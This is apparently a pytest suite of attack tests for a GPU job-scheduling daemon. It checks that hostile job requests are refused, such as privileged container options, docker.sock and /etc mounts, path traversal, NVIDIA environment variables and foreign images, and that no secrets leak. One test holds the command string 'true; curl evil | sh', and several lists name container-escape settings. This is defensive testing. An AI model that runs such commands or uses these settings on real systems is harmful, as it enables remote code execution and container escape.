"""Attacks by what a request says: refused at the border by the field's name, nothing stored."""

from __future__ import annotations

import os
import socket
import threading

import pytest

from tests.safety.lab import Lab

pytestmark = [pytest.mark.engine, pytest.mark.root, pytest.mark.cc]


def codes(errors: list[dict[str, str]]) -> str:
    """Return the distinct `code field` pairs of errors in words."""
    return ", ".join(dict.fromkeys(f"{e['code']} {e.get('field', '')}".strip() for e in errors))


def mounted(source: str, target: str = "/work") -> list[dict[str, object]]:
    return [{"source": source, "target": target}]


def test_attack_01_unknown_keys(lab: Lab, saw):
    """What the schema does not name cannot be asked for."""
    keys = {
        "privileged": True,
        "pid_mode": "host",
        "cap_add": ["SYS_ADMIN"],
        "ipc_mode": "host",
        "security_opt": ["seccomp=unconfined"],
        "devices": ["/dev/nvidia0"],
        "network": "host",
        "cgroup_parent": "/",
        "group_add": ["0"],
        "userns_mode": "host",
        "entrypoint": ["sh"],
        "device_cgroup_rules": ["c 195:* rwm"],
        "restart_policy": "always",
        "uts_mode": "host",
        "log_config": {},
        "labels": {},
        "init": False,
        "volumes_from": ["x"],
        "healthcheck": {},
    }
    errors = [lab.refused(lab.mallory, **{key: value}) for key, value in keys.items()]
    assert {error["code"] for error in errors} == {"invalid"}
    assert all(key in error["message"] for key, error in zip(keys, errors, strict=True)), errors
    runtimes = [lab.refused(lab.mallory, runtime=word) for word in ("nvidia", "runc", "kata")]
    assert {error["field"] for error in runtimes} == {"runtime"}
    saw(f"{len(errors)} keys and {len(runtimes)} runtimes refused by name, nothing stored")


@pytest.mark.parametrize("who", ["0:0", "1000", "alice", "1000:1000:0", 4294967295, -1], ids=str)
def test_attack_02_a_user_of_ones_choice(lab: Lab, saw, who: object):
    assert "user" in lab.refused(lab.mallory, user=who)["message"]
    saw("no field `user`")


def test_attack_02_the_job_is_whom_the_kernel_names(lab: Lab, saw):
    _, log = lab.ran(lab.mallory, "id -u; id -g")
    assert log.split() == [str(lab.mallory), str(os.stat(lab.home(lab.mallory)).st_gid)]
    saw("the job ran with the peer's uid and gid")


@pytest.mark.parametrize("key", ["owner", "uid", "sudo", "as_user", "is_admin", "caller"])
def test_attack_04_claims_in_the_json(lab: Lab, saw, key: str):
    for value in ("root", 0, True, {"uid": 0}):
        assert key in lab.refused(lab.mallory, **{key: value})["message"]
    saw("refused by name")


@pytest.mark.parametrize(
    "source",
    ["/", "//", "/etc", "/var/run/docker.sock", "/run/docker.sock", "/run/gpuboard", "/proc",
     "/sys", "/dev", "/var/lib/docker", "/root", "/home", "/tmp"],
)  # fmt: skip
def test_attack_07_mounts_of_the_system(lab: Lab, saw, source: str):
    error = lab.refused(lab.mallory, mounts=mounted(source))
    assert (error["code"], error["field"]) == ("permission", "mounts")
    saw("refused at submit: below one's home only")


def test_attack_07_the_daemons_own_state_and_socket(lab: Lab, saw):
    for path in (lab.box.state, lab.box.socket, lab.engine.host.removeprefix("unix://")):
        assert lab.refused(lab.mallory, mounts=mounted(str(path)))["code"] == "permission"
    saw("state and sockets refused")


def test_attack_08_climbing_and_neighbours(lab: Lab, saw):
    home, victim, longer = (lab.home(uid) for uid in (lab.mallory, lab.victim, lab.longer))
    assert str(longer).startswith(str(home)), "the neighbour's name must begin with ours"
    for source in (f"{home}/../{victim.name}", str(longer), str(victim), f"{home}/./../../etc"):
        error = lab.refused(lab.mallory, mounts=mounted(source))
        assert (error["code"], error["field"]) == ("permission", "mounts")
    _, log = lab.ran(lab.mallory, "cd /work && echo inside", mounts=mounted(f"/{home}/./"))
    assert log == "inside\n"
    saw("climbing and the longer name refused; an odd spelling of one's own home works")


@pytest.mark.parametrize(
    "source", ["/proc/self/cwd", "/proc/1/root", "/dev/fd/3", "/proc/self/fd/9"]
)
def test_attack_11_magic_links(lab: Lab, saw, source: str):
    assert lab.refused(lab.mallory, mounts=mounted(source))["field"] == "mounts"
    saw("refused at submit")


@pytest.mark.parametrize(
    "name",
    ["a\0b", "a\nb", "a\rb", "a\x1b[2J", "x" * 5000, "\udcff", "a\x7fb"],
    ids=["nul", "newline", "return", "escape", "long", "not-utf-8", "delete"],
)
def test_attack_13_paths_that_cannot_be(lab: Lab, saw, name: str):
    home = lab.home(lab.mallory)
    for mounts in (mounted(f"{home}/{name}"), mounted(str(home), f"/work/{name}")):
        error = lab.refused(lab.mallory, mounts=mounts)
        assert error["code"] == "invalid"
    saw("refused: NUL, newline, control, length, encoding")


def test_attack_13_paths_that_are_only_odd(lab: Lab, saw):
    home = lab.home(lab.mallory)
    for source in ("work", "./work", "~/work", "~gbvictim", ""):
        assert lab.refused(lab.mallory, mounts=mounted(source))["code"] == "invalid"
    odd = home / "a:b,c d"
    odd.mkdir()
    os.chown(odd, lab.mallory, -1)
    (odd / "file").write_text("read\n")
    ended, log = lab.ran(lab.mallory, "cat /work/file; ls /", mounts=mounted(str(odd)))
    assert ended["state"] == "succeeded"
    assert log.startswith("read\n")
    saw("relative and ~ refused; colon, comma and blank are only letters")


@pytest.mark.parametrize(
    "target",
    ["/etc/ld.so.conf.d", "/usr/bin", "/", "/a/../etc", "//etc", "/proc/self", "/sys/fs", "/dev/shm",
     "/bin", "/lib/x86_64-linux-gnu", "/lib64", "/sbin", "/run/secrets", "work", "/usr/../usr/lib"],
)  # fmt: skip
def test_attack_15_targets_of_the_system(lab: Lab, saw, target: str):
    home = str(lab.home(lab.mallory))
    assert lab.refused(lab.mallory, mounts=mounted(home, target))["field"] == "mounts"
    saw("refused at submit")


@pytest.mark.parametrize("root", ["/var/run", "/run", "/var/../var/run", "//var/run"])
def test_attack_16_the_toolkits_magic_target(lab: Lab, saw, root: str):
    home = str(lab.home(lab.mallory))
    target = f"{root}/nvidia-container-devices/all"
    assert lab.refused(lab.mallory, mounts=mounted(home, target))["field"] == "mounts"
    saw("refused in every spelling")


def test_attack_17_mounts_twice_and_by_the_thousand(lab: Lab, saw):
    home = str(lab.home(lab.mallory))
    twice = [*mounted(home, "/work"), *mounted(home, "/work/")]
    many = [mount for n in range(1000) for mount in mounted(home, f"/work/{n}")]
    for mounts in (twice, many):
        assert lab.refused(lab.mallory, mounts=mounts)["field"] == "mounts"
    saw("two on one target refused, a thousand refused")


@pytest.mark.parametrize(
    "key", ["type", "volume_options", "driver_opts", "driver_config", "propagation"]
)
def test_attack_18_volumes_with_a_driver(lab: Lab, saw, key: str):
    home = str(lab.home(lab.mallory))
    mount = {"source": home, "target": "/work", key: {"device": "/etc", "o": "bind"}}
    assert key in lab.refused(lab.mallory, mounts=[mount])["message"]
    saw("no such field of a mount")


@pytest.mark.parametrize("workdir", ["..", "work", "/work/../etc", "/a\0b", "/x\n"])
def test_attack_19_working_directories_that_climb(lab: Lab, saw, workdir: str):
    assert lab.refused(lab.mallory, workdir=workdir)["field"] == "workdir"
    saw("refused: `..`, relative, control characters")


@pytest.mark.parametrize(
    "key",
    ["NVIDIA_VISIBLE_DEVICES", "nvidia_visible_devices", "Nvidia_Visible_Devices",
     "NVIDIA_IMEX_CHANNELS", "NVIDIA_MIG_CONFIG_DEVICES", "NVIDIA_MIG_MONITOR_DEVICES",
     "NVIDIA_REQUIRE_CUDA", "NVIDIA_DISABLE_REQUIRE", "NVIDIA_GDS", "NVIDIA_ANYTHING"],
)  # fmt: skip
def test_attack_20_variables_of_the_toolkit(lab: Lab, saw, key: str):
    for gpus in (0, 1):
        assert lab.refused(lab.mallory, env={key: "all"}, gpus=gpus)["field"] == "env"
    saw("every NVIDIA_* refused")


def test_attack_20_driver_capabilities_beyond_compute(lab: Lab, saw):
    for value in ("all", "compute,graphics", "display", ""):
        env = {"NVIDIA_DRIVER_CAPABILITIES": value}
        assert lab.refused(lab.mallory, env=env)["field"] == "env"
    saw("capabilities other than compute and utility refused")


@pytest.mark.parametrize(
    "text",
    ["-1", "0.5", '"all"', "1e3", "true", "1000000000", "NaN", "Infinity", "null", '"1"', "[1]"],
)
def test_attack_24_numbers_of_devices_that_are_none(lab: Lab, saw, text: str):
    before = lab.last_id()
    body = b'{"image": "gpuboard-test/busybox:1", "command": ["true"], "gpus": %s}' % text.encode()
    status, answer = lab.ask(lab.mallory, "POST", "/jobs", body)
    assert status == 400, answer
    assert lab.last_id() == before
    saw("400 by the field's name")


@pytest.mark.parametrize(
    "word", ["GPU-xyz", "all", "-1", "none", "nvidia.com/gpu=all", "0 1", "99"]
)
def test_attack_25_devices_by_names_that_are_none(lab: Lab, saw, word: str):
    assert lab.refused(lab.mallory, gpu_ids=[word])["field"] == "gpu_ids"
    saw("only a device of the box may be named")


def test_attack_25_several_devices_in_one_word(lab: Lab, saw):
    """`0,1` is how people name two devices: it becomes their UUIDs, never a word for the engine."""
    job = lab.job(lab.submit(lab.mallory, gpu_ids=["0,1"], hold=True))
    assert job["gpus"] == 2
    lab.cancel(job["id"])
    status, answer = lab.ask(lab.mallory, "POST", "/jobs", lab.request(gpu_ids=[""], hold=True))
    assert (status, answer["jobs"][0]["gpus"]) == (200, 0)
    lab.cancel(answer["ids"][0])
    saw("`0,1` is read as two devices of the box; an empty word as none")


@pytest.mark.parametrize(
    "env",
    [{"A=B": "c"}, {"": "x"}, {"A\nB": "x"}, {"A\0": "x"}, {"A": "x\0y"}, {"1A": "x"}, {"A B": "x"},
     {"\udcff": "x"}],
    ids=["equals", "empty", "newline", "nul", "value-nul", "digit", "blank", "not-utf-8"],
)  # fmt: skip
def test_attack_27_variables_that_cannot_be(lab: Lab, saw, env: dict[str, str]):
    assert lab.refused(lab.mallory, env=env)["code"] == "invalid"
    saw("refused by the field's name")


def test_attack_31_a_command_as_one_string(lab: Lab, saw):
    error = lab.refused(lab.mallory, command="true; curl evil | sh")
    assert (error["code"], "command" in error["message"]) == ("invalid", True)
    number = lab.submit(lab.mallory, command=["echo", "$(id)", ";", "id", "`id`", "|", "$HOME"])
    lab.wait(number)
    assert lab.log(number) == "$(id) ; id `id` | $HOME\n"
    saw("a string is refused; words reach the job as they are")


class Ear:
    """Listens on loopback and counts who calls."""

    def __init__(self) -> None:
        self.calls = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.calls += 1
            connection.close()


def test_attack_34_images_that_are_none(lab: Lab, saw):
    ear = Ear()
    malformed = ("../x", "http://127.0.0.1/x", "a b", "-x", "A/B", "x@sha256:zz", "x\0", "\x1b[1m")
    for image in malformed:
        assert lab.refused(lab.mallory, image=image)["field"] == "image"
    foreign = ("169.254.169.254/x", f"127.0.0.1:{ear.port}/x/y:1", "busybox:latest", "alpine")
    for image in foreign:
        assert lab.refused(lab.mallory, image=image)["code"] == "refused"
    missing = lab.wait(lab.submit(lab.mallory, image="gpuboard-test/nothing:1"))
    assert (missing["state"], "not on this box" in missing["reason"]) == ("failed", True)
    ear.socket.close()
    assert ear.calls == 0
    saw("malformed and unlisted ones refused at submit, nobody was called")


def test_attack_34_no_image_and_no_process_asked_for(lab: Lab, saw):
    assert lab.refused(lab.mallory, image="", runtime="docker")["field"] == "image"
    saw("an empty image is refused")


@pytest.fixture
def private_job(lab: Lab):
    """A job of the victim's that holds secrets and runs."""
    number = lab.submit(
        lab.victim,
        command=["sh", "-c", "echo spoken secret; exec sleep 300"],
        env={"TOKEN": "hunter2"},
        note="private note",
    )
    lab.wait(number, "running")
    yield number
    lab.cancel(number)


def test_attack_36_others_jobs(lab: Lab, saw, private_job: int):
    """What is refused is refused in the words for a job that is not there."""
    missing = 10**9
    for action in ("cancel", "hold", "release", "update"):
        told = [
            lab.ask(lab.mallory, "POST", f"/jobs/{action}", {"jobs": [str(number)]})[1]["error"]
            for number in (private_job, missing)
        ]
        assert told[0]["message"].replace(str(private_job), str(missing)) == told[1]["message"]
        assert told[0]["code"] == "permission"
    status, answer = lab.ask(lab.mallory, "GET", f"/jobs/{private_job}/log")
    assert (status, answer["error"]["code"]) == (403, "permission")
    assert answer["error"]["message"] == f"you have no job {private_job}"
    assert lab.job(private_job)["state"] == "running"
    saw("cancel, hold, release, update, logs: `you have no job N`")


def test_attack_36_nothing_private_is_told(lab: Lab, saw, private_job: int):
    told = ""
    for target in ("/jobs", "/board", "/events", f"/jobs/{private_job}", "/history", "/timeline",
                   f"/jobs/{private_job}/why", "/usage", f"/events?job={private_job}", "/metrics"):  # fmt: skip
        status, answer = lab.ask(lab.mallory, "GET", target)
        assert status == 200, (target, answer)
        told += str(answer)
    for secret in ("hunter2", "spoken secret", "private note", "sleep 300"):
        assert secret not in told
    assert "hunter2" not in lab.daemon_log()
    saw("no secret in any list, event, view or the daemon's log")


def test_attack_36_each_refusal_leaves_an_audit_line(lab: Lab, saw, private_job: int):
    lab.ask(lab.mallory, "POST", "/jobs/cancel", {"jobs": [str(private_job)]})
    lab.ask(lab.mallory, "POST", "/admin/drain", {"gpu_ids": ["0"]})
    lab.refused(lab.mallory, mounts=mounted("/etc"))
    lines = [line for line in lab.daemon_log().splitlines() if "refused" in line]
    assert any(f"uid={lab.mallory}" in line and str(private_job) in line for line in lines)
    assert any(f"uid={lab.mallory}" in line and "drain" in line for line in lines)
    assert any(f"uid={lab.mallory}" in line and "/etc" in line for line in lines)
    saw("who, what and which stand in the daemon's log")


def test_attack_38_priority_and_what_is_others(lab: Lab, saw):
    for key in ("priority", "partition", "qos", "reservation", "nice"):
        assert key in lab.refused(lab.mallory, **{key: "high"})["message"]
    for key in ("account", "class"):
        assert lab.refused(lab.mallory, **{key: "high"})["field"] == key
    booking = lab.ask(
        lab.victim, "POST", "/reservations", {"gpus": 1, "duration": "1h", "at": "now+2h"}
    )[1]["reservation"]["id"]
    for method, body in (("DELETE", None), ("PATCH", {"name": "mine"})):
        status, answer = lab.ask(lab.mallory, method, f"/reservations/{booking}", body)
        assert (status, answer["error"]["code"]) == (403, "permission")
    for action in ("drain", "resume", "notice", "blackout", "backup", "check", "reload"):
        status, _ = lab.ask(lab.mallory, "POST", f"/admin/{action}", {})
        assert status == 403, action
    assert lab.ask(lab.victim, "DELETE", f"/reservations/{booking}")[0] == 200
    saw("no such fields; another's booking and all of /admin refused")


def test_attack_40_more_jobs_than_the_cap(lab: Lab, saw):
    """The cap here is 20; an array that would pass it is refused whole."""
    numbers = [lab.submit(lab.longer, hold=True) for _ in range(15)]
    status, answer = lab.ask(lab.longer, "POST", "/jobs", lab.request(array="0-9", hold=True))
    assert (status, answer["error"]["code"]) == (422, "quota")
    numbers += [lab.submit(lab.longer, hold=True) for _ in range(5)]
    status, answer = lab.ask(lab.longer, "POST", "/jobs", lab.request(hold=True))
    assert (status, answer["error"]["code"]) == (422, "quota")
    others = lab.submit(lab.mallory, hold=True)
    lab.ask(0, "POST", "/jobs/cancel", {"jobs": [str(n) for n in (*numbers, others)]})
    saw("the 21st refused as quota, an array over the cap refused whole, others go on")


@pytest.mark.parametrize(
    ("field", "values"),
    [
        ("memory", [0, -1, "0", "-5G", "5M", "1P", "100G", "lots"]),
        ("cpus", [0, -1, 0.001, 64, 1e9]),
        ("shm_size", [0, -1, "100G", "x"]),
        ("time_limit", [0, -1, "0", "400d", "-1h", "soon"]),
        ("grace", ["-1", "2h", "x"]),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_attack_54_sizes_out_of_range(lab: Lab, saw, field: str, values: list[object]):
    for value in values:
        error = lab.refused(lab.mallory, **{field: value})
        assert error["code"] == "invalid", (value, error)
        assert error["field"] == field, (value, error)
    saw("0, negative and huge refused by range")


@pytest.mark.parametrize(
    "key", ["pids", "pids_limit", "oom_kill_disable", "memory_swap", "oom_score_adj"]
)
def test_attack_54_limits_that_are_not_asked_for(lab: Lab, saw, key: str):
    assert key in lab.refused(lab.mallory, **{key: 0})["message"]
    saw("pids and swap are no fields")


def test_attack_55_dependencies(lab: Lab, saw):
    foreign = lab.submit(lab.victim, hold=True)
    error = lab.refused(lab.mallory, depends_on=[f"afterany:{foreign}"])
    assert (error["code"], error["field"]) == ("permission", "depends_on")
    to_come = lab.last_id() + 1
    missing = lab.refused(lab.mallory, depends_on=[str(to_come)])
    assert missing["code"] in ("not_found", "invalid")
    assert missing["message"].replace(str(to_come), str(foreign)) == error["message"]
    for word in ("after:1", "afterok:", "-1", "1-999999999", "x" * 500):
        assert lab.refused(lab.mallory, depends_on=[word])["code"] in ("invalid", "not_found")
    lab.cancel(foreign)
    saw("foreign: permission; later or own number to come: no such job; so no cycle can be")


@pytest.mark.parametrize(
    "array", ["0-1000", "0-99999999", "5-1", "-1", "0-9%0", "a", "0," * 5000 + "1"]
)
def test_attack_56_arrays_that_multiply(lab: Lab, saw, array: str):
    error = lab.refused(lab.mallory, array=array)
    assert (error["code"], error["field"]) == ("invalid", "array")
    saw("refused before anything is stored; the cap counts each element (40)")


@pytest.mark.parametrize(
    "key", ["hostname", "extra_hosts", "dns", "sysctls", "ulimits", "domainname"]
)
def test_attack_57_names_and_kernel_settings(lab: Lab, saw, key: str):
    assert key in lab.refused(lab.mallory, **{key: {"x": "y"}})["message"]
    saw("no such fields")


def test_attack_57_ports_and_addresses_of_the_box(lab: Lab, saw):
    """What is published where is not a person's to say: no such fields, and no such words in `ports`."""
    for key in ("port_bindings", "host_port", "host_ip", "publish_all", "network_mode", "links"):
        assert key in lab.refused(lab.mallory, **{key: "80"})["message"]
    wrong: tuple[object, ...] = (
        *("80:8888", "0.0.0.0:20017:8888", "127.0.0.1:20017:8888", "8888/udp", "20000-20999"),
        *(0, -1, 65536, "0", "²", "", True, 8888.5, None, {"port": 80}, [8888]),
    )
    errors = [lab.refused(lab.mallory, ports=[word]) for word in wrong]
    errors += [lab.refused(lab.mallory, ports=[8888, "8888/tcp"])]
    errors += [lab.refused(lab.mallory, ports=list(range(1, 1001)))]
    assert {error["code"] for error in errors} <= {"invalid", "refused"}
    assert all(error["field"].startswith("ports") for error in errors), errors
    saw(f"6 keys and {len(errors)} ports refused by name")
